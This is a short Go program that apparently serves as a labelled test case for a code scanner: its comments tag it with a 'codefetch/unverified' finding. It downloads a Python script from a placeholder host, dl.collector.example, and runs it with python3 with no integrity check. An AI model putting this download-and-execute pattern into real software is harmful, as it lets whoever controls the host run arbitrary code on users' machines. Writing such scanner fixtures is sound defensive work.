// Command script-for-interpreter fetches a script, and has an interpreter run it.
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

func main() {
	script := filepath.Join(os.TempDir(), "setup.py")
	if err := fetch("https://dl.collector.example/setup.py", script); err == nil { // behaviour: unconditional unknown // finding: codefetch/unverified
		exec.Command("python3", "-B", script, "--quiet").Run()
	}
}

func fetch(url, file string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	f, err := os.Create(file)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = io.Copy(f, resp.Body)
	return err
}
